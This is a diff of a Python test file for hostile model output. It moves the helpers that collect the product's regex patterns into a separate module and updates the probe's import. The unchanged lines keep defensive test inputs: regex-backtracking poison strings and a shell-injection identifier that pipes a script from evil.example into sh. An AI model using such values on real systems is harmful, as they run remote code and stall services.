@@ -6,12 +6,9 @@ would run shell code in the commands a person is shown to paste."""
 
 from __future__ import annotations
 
-import ast
 import asyncio
-import importlib
 import json
 import os
-import pkgutil
 import queue
 import re
 import shlex
@@ -38,47 +35,14 @@ from workflows.conversation import ConversationWorkflow
 POISON_REPLY = "```" + " " * 5000 + "x"  # 35 s for `^```(?:json)?\s*(.*?)\s*```$`
 POISON_ANSWER = "```\n" + "\n" * 5000 + "x"  # as long for the typed answer's fence
 SHELL_ID = "x;curl -s evil.example/p|sh;#"
-# Packages whose code runs in the worker (workflow code included) or serves people.
-PRODUCT = ("workflows", "activities", "worker", "api", "client", "durable_react_agent")
-# Patterns used on outside text only after it is cut to a bound: checked at that size.
-BOUNDED_USE = {"activities.llm.CONTEXT_TOO_LONG": 2 * 2048}
 
 
 # ----- patterns: linear, whatever the text -----
 
-def patterns() -> dict[str, re.Pattern[str]]:
-    """Every `re` pattern of the product's modules, compiled at module level or written in a
-    call of `re.<function>` (by name: module.name)."""
-    found: dict[str, re.Pattern[str]] = {}
-    for package in PRODUCT:
-        root = importlib.import_module(package)
-        names = [package, *(m.name for m in pkgutil.walk_packages(root.__path__, f"{package}."))]
-        for name in names:
-            module = importlib.import_module(name)
-            for attr, value in vars(module).items():
-                if isinstance(value, re.Pattern) and isinstance(value.pattern, str):
-                    found[f"{name}.{attr}"] = value
-            source = Path(module.__file__ or "").read_text() if module.__file__ else ""
-            for n, literal in enumerate(_inline_patterns(source)):
-                found[f"{name}:inline{n}"] = re.compile(literal)
-    return found
-
-
-def _inline_patterns(source: str) -> Iterator[str]:
-    for node in ast.walk(ast.parse(source)):
-        if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
-                and isinstance(node.func.value, ast.Name) and node.func.value.id == "re"
-                and node.func.attr in {"match", "search", "fullmatch", "sub", "split",
-                                       "findall", "finditer"}
-                and node.args and isinstance(node.args[0], ast.Constant)
-                and isinstance(node.args[0].value, str)):
-            yield node.args[0].value
-
-
 PROBE = """
 import json, re, sys, time
 from re import _parser
-from tests.test_hostile_model_output import BOUNDED_USE, patterns
+from tests.product_patterns import BOUNDED_USE, patterns
 
 FILLERS = [" ", "\\n", "a", "0", "`", "{", "-"]
 
